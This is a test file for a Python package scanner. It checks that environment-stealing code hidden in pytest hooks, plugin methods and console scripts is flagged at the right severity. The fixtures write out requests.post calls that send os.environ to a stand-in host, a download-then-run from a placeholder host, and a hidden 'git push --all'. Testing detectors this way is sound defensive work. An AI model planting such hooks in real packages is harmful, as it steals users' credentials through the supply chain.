import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { analyseArchive } from '../../../src/analysis/analyse-archive.js';
import type { Finding } from '../../../src/core/finding.js';
import { loadPythonParser } from '../../../src/python/parser.js';
import * as rules from '../../../src/rules/registry.js';
import { tarOf } from '../../archive/hostile-tar.js';
import { zipOf } from '../../archive/hostile-zip.js';
import { inFolder } from '../../archive/reading.js';
import { WASM_FILES } from '../../python/reading.js';

const parser = loadPythonParser({ ...WASM_FILES, backend: 'wasm' });
type Files = Readonly<Record<string, string>>;

// Enough modules for a package that is not tiny.
const OTHERS: Files = { 'plot/__init__.py': '', ...Object.fromEntries(Array.from({ length: 12 }, (_, index) => [`plot/part${index}.py`, `VALUE = ${index}\n`])) };
const SETUP = 'from setuptools import setup\n';
const IMPORTS = 'import os\nimport requests\n\n\n';
const SENDS = 'requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
const sendsIn = (name: string): string => `${IMPORTS}def ${name}(*given):\n    ${SENDS}`;
const sendsInMethod = (method: string): string => `${IMPORTS}class Plugin:\n    def ${method}(self, *given):\n        ${SENDS}`;

async function analysed(fileName: string, bytes: Buffer): Promise<readonly Finding[]> {
  return inFolder(async (folder) => {
    await writeFile(join(folder, fileName), bytes);
    return (await analyseArchive(join(folder, fileName), { rules, loadParser: () => parser }, { name: null, version: null })).findings;
  });
}

const entries = (files: Files, root: string): { name: string; data: string }[] => Object.entries({ ...OTHERS, ...files }).map(([name, data]) => ({ name: `${root}${name}`, data }));
const inSdist = (files: Files): Promise<readonly Finding[]> => analysed('plot-1.tar.gz', gzipSync(tarOf(entries(files, 'plot-1/'))));
const inWheel = (points: string, files: Files): Promise<readonly Finding[]> => analysed('plot-1-py3-none-any.whl', zipOf(entries({ ...files, 'plot-1.dist-info/METADATA': 'Metadata-Version: 2.1\nName: plot\nVersion: 1\n', 'plot-1.dist-info/entry_points.txt': points }, '')));

/** The gravest that is said of what leaves. */
const worst = (findings: readonly Finding[], rule = 'credentials-to-network'): string | undefined => findings.find((finding) => finding.rule === rule)?.severity;

const OF_SETUP: readonly (readonly [where: string, files: Files])[] = [
  ['a dict in setup()', { 'setup.py': `${SETUP}setup(entry_points=${JSON.stringify({ pytest11: ['plot = plot.plugin'] })})\n` }],
  ['a text in setup()', { 'setup.py': `${SETUP}setup(entry_points="""\n[pytest11]\nplot = plot.plugin\n""")\n` }],
  ['a dict that setup() gets by its name', { 'setup.py': `${SETUP}points = {"pytest11": "plot = plot.plugin"}\nsetup(**dict(entry_points=points))\n` }],
  ['setup.cfg', { 'setup.py': `${SETUP}setup()\n`, 'setup.cfg': '[options.entry_points]\npytest11 =\n  plot = plot.plugin\n' }],
  ['pyproject.toml', { 'pyproject.toml': '[project]\nname = "plot"\n[project.entry-points.pytest11]\nplot = "plot.plugin"\n' }],
  ['the tables of poetry', { 'pyproject.toml': '[tool.poetry.plugins."pytest11"]\nplot = "plot.plugin"\n' }],
  ['an egg-info folder', { 'setup.py': `${SETUP}setup()\n`, 'plot.egg-info/entry_points.txt': '[pytest11]\nplot = plot.plugin\n' }],
];

describe('what a tool calls of a plugin counts like what runs on import', () => {
  test.each(OF_SETUP)('where %s names the module', async (_, files) => {
    expect(worst(await inSdist({ ...files, 'plot/plugin.py': sendsIn('pytest_configure') }))).toBe('critical');
  });

  test.each([
    ['a hook of pytest', '[pytest11]\nplot = plot.plugin\n', sendsIn('pytest_sessionstart')],
    ['a hook in a class that the plugin registers', '[pytest11]\nplot = plot.plugin\n', sendsInMethod('pytest_runtest_setup')],
    ['a function that is named', '[garden.plugins]\nplot = plot.plugin:bloom\n', sendsIn('bloom')],
    ['what that function calls', '[garden.plugins]\nplot = plot.plugin:bloom\n', `${sendsIn('_send')}\n\ndef bloom():\n    _send()\n`],
    ['the constructor of a class', '[flake8.extension]\nPL = plot.plugin:Plugin\n', sendsInMethod('__init__')],
    ['a method that runs it', '[flake8.extension]\nPL = plot.plugin:Plugin\n', sendsInMethod('run')],
    ['an event of it', '[mkdocs.plugins]\nplot = plot.plugin:Plugin\n', sendsInMethod('on_config')],
    ['a command that an install runs', '[distutils.commands]\nbuild_py = plot.plugin:Plugin\n', sendsInMethod('run')],
  ])('%s, in a wheel', async (_, points, text) => {
    const findings = await inWheel(points, { 'plot/plugin.py': text });
    expect(worst(findings)).toBe('critical');
    expect(findings.map(({ message }) => String(message))).toContain('requests.post sends the whole environment, when a tool loads it');
  });

  test.each([
    ['a hook of pytest', '[pytest11]\nplot = plot.plugin\n', 'pytest_configure'],
    ['a function that is named', '[garden.plugins]\nplot = plot.plugin:bloom\n', 'bloom'],
    ['a function that nobody looks for', '[garden.plugins]\nplot = plot.plugin:bloom\n', 'wilt'],
  ])('%s, where one module gathers, another sends and the plugin brings them together', async (_, points, hook) => {
    const halves = { 'plot/_soil.py': 'import os\n\n\ndef gather():\n    return dict(os.environ)\n', 'plot/_post.py': 'import requests\n\n\ndef deliver(address, data):\n    requests.post(address, json=data)\n' };
    const plugin = `from plot._soil import gather\nfrom plot._post import deliver\n\n\ndef bloom():\n    return 1\n\n\ndef ${hook}(*given):\n    deliver("https://collect.example.invalid", gather())\n`;
    expect(worst(await inWheel(points, { ...halves, 'plot/plugin.py': plugin }))).toBe(hook === 'wilt' ? undefined : 'critical');
  });

  test('so does a function that the module has from another one, or calls there', async () => {
    const helper = { 'plot/_watch.py': sendsIn('report') };
    expect(worst(await inWheel('[garden.plugins]\nplot = plot:report\n', { ...helper, 'plot/__init__.py': 'from ._watch import report\n' }))).toBe('critical');
    expect(worst(await inWheel('[pytest11]\nplot = plot.plugin\n', { ...helper, 'plot/plugin.py': 'def pytest_configure(config):\n    from ._watch import report\n\n    report()\n' }))).toBe('critical');
  });

  test('so does what counts nowhere but where code runs by itself', async () => {
    const text = 'import subprocess\n\n\ndef pytest_configure(config):\n    subprocess.run(["git", "push", "--all", "origin"])\n';
    expect(worst(await inWheel('[pytest11]\nplot = plot.plugin\n', { 'plot/plugin.py': text }), 'publishes-on-import')).toBe('critical');
  });
});

describe('what somebody starts by its name weighs one step more than what waits for a call', () => {
  test.each([
    ['a wheel', inWheel('[console_scripts]\nplot = plot.cli:main\n', { 'plot/cli.py': sendsIn('main') })],
    ['a wheel with a window', inWheel('[gui_scripts]\nplot = plot.cli:main\n', { 'plot/cli.py': sendsIn('main') })],
    ['setup.py', inSdist({ 'setup.py': `${SETUP}setup(entry_points={"console_scripts": ["plot=plot.cli:main"]})\n`, 'plot/cli.py': sendsIn('main') })],
    ['pyproject.toml', inSdist({ 'pyproject.toml': '[project]\nname = "plot"\n[project.scripts]\nplot = "plot.cli:main"\n', 'plot/cli.py': sendsIn('main') })],
    ['the tables of poetry', inSdist({ 'pyproject.toml': '[tool.poetry.scripts]\nplot = "plot.cli:main"\n', 'plot/cli.py': sendsIn('main') })],
    ['a part that the package finds so itself', inWheel('[plot.parts]\nplot = plot.cli:main\n', { 'plot/cli.py': sendsIn('main') })],
    ['a command of setup.py that is asked for', inWheel('[distutils.commands]\nrelease = plot.cli:Plugin\n', { 'plot/cli.py': sendsInMethod('run') })],
  ])('in %s', async (_, findings) => {
    expect(worst(await findings)).toBe('medium');
  });
});

const fetches = (runs: string): string => `import os\nimport runpy\nimport subprocess\nimport requests\n\n\ndef main():\n    with open("/tmp/plot.part", "wb") as part:\n        part.write(requests.get("https://beds.example.invalid/part").content)\n    ${runs}\n`;

test('a command that fetches Python and runs it warns, and one that fetches a program and starts it does what version managers do', async () => {
  const [python, program] = await Promise.all([fetches('runpy.run_path("/tmp/plot.part")'), fetches('subprocess.run(["/tmp/plot.part"])')].map((text) => inWheel('[console_scripts]\nplot = plot.cli:main\n', { 'plot/cli.py': text })));
  expect(worst(python ?? [], 'download-then-run')).toBe('medium');
  expect(worst(program ?? [], 'download-then-run')).toBe('low');
});

describe('what no entry point leads to waits for a call', () => {
  test.each([
    ['another function of the module', '[console_scripts]\nplot = plot.cli:main\n', `${sendsIn('send')}\n\ndef main():\n    print("plot")\n`],
    ['a fixture', '[pytest11]\nplot = plot.cli\n', sendsIn('environment')],
    ['a method that no tool knows', '[flake8.extension]\nPL = plot.cli:Plugin\n', sendsInMethod('send')],
    ['a module that is none of the package', '[console_scripts]\nplot = other.cli:main\n', sendsIn('main')],
    ['a package without entry points', '', sendsIn('main')],
  ])('%s', async (_, points, text) => {
    expect(worst(await inWheel(points, { 'plot/cli.py': text }))).toBe('low');
  });
});

describe('honest tools and plugins are neither blocked nor warned about', () => {
  const DECIDES = new Set(['medium', 'high', 'critical']);
  test.each([
    ['a command that talks to a service', '[console_scripts]\nplot = plot.cli:main\n', 'import os\nimport sys\nimport requests\n\n\ndef main():\n    token = os.environ["PLOT_TOKEN"]\n    reply = requests.get(f"https://api.example.invalid/beds/{sys.argv[1]}", headers={"Authorization": f"Bearer {token}"})\n    print(reply.json())\n'],
    ['a command that starts a program', '[console_scripts]\nplot = plot.cli:main\n', 'import subprocess\nimport sys\n\n\ndef main():\n    sys.exit(subprocess.call(["git", "status", *sys.argv[1:]], env=dict(__import__("os").environ)))\n'],
    ['a plugin of pytest that reports to an address of its settings', '[pytest11]\nplot = plot.plugin\n', 'import platform\nimport requests\n\n\ndef pytest_addoption(parser):\n    parser.addoption("--report-url")\n\n\ndef pytest_sessionfinish(session, exitstatus):\n    url = session.config.getoption("--report-url")\n    if url:\n        requests.post(url, json={"exit": exitstatus, "python": platform.python_version()})\n'],
    ['a backend of keyring', '[keyring.backends]\nplot = plot.backend\n', 'import json\nimport os\nimport requests\nfrom keyring.backend import KeyringBackend\n\n\nclass PlotBackend(KeyringBackend):\n    priority = 5\n\n    def get_password(self, service, username):\n        with open(os.path.expanduser("~/.plot/token")) as kept:\n            token = json.load(kept)["token"]\n        reply = requests.post(f"https://keys.example.invalid/{service}", headers={"Authorization": token})\n        return reply.json()["password"]\n'],
    ['a plugin that starts a tool', '[mkdocs.plugins]\nplot = plot.plugin:Plugin\n', 'import subprocess\n\n\nclass Plugin:\n    def on_files(self, files, config):\n        self.when = subprocess.check_output(["git", "log", "-1", "--format=%ct"])\n        return files\n'],
  ])('%s', async (_, points, text) => {
    const path = /= (\S+?)(?::|\n)/.exec(points)?.[1]?.replaceAll('.', '/') ?? '';
    const findings = await inWheel(points, { [`${path}.py`]: text });
    expect(findings.filter(({ severity, file }) => DECIDES.has(severity) && file === `${path}.py`)).toEqual([]);
  });
});

test('a tiny plugin is told of once, though it is read twice', async () => {
  const findings = await inWheel('[pytest11]\nplot = plot.plugin\n', { 'plot/plugin.py': `${IMPORTS}${SENDS}\n\ndef pytest_configure(config):\n    print(config)\n` });
  expect(findings.filter(({ rule }) => rule === 'credentials-to-network')).toHaveLength(1);
});

test('of a module that thousands of entry points name, everything is taken to be called', async () => {
  const points = Array.from({ length: 6_000 }, (_, index) => `p${index} = plot.plugin:name${index}\n`).join('');
  expect(worst(await inWheel(`[garden.plugins]\n${points}`, { 'plot/plugin.py': sendsIn('other') }))).toBe('critical');
});

test('an installed plugin is judged by the entry points that were installed with it', async () => {
  await inFolder(async (folder) => {
    const files = { ...OTHERS, 'plot/plugin.py': sendsIn('pytest_configure'), 'plot-1.dist-info/entry_points.txt': '[pytest11]\nplot = plot.plugin\n' };
    for (const [path, text] of Object.entries(files)) {
      await mkdir(dirname(join(folder, path)), { recursive: true });
      await writeFile(join(folder, path), text);
    }
    const installed = { files: Object.keys(files).toSorted().map((member) => ({ member, path: join(folder, member) })), renamed: {} };
    const { findings } = await analyseArchive(folder, { rules, loadParser: () => parser }, { name: null, version: null, installed });
    expect(worst(findings)).toBe('critical');
  });
});
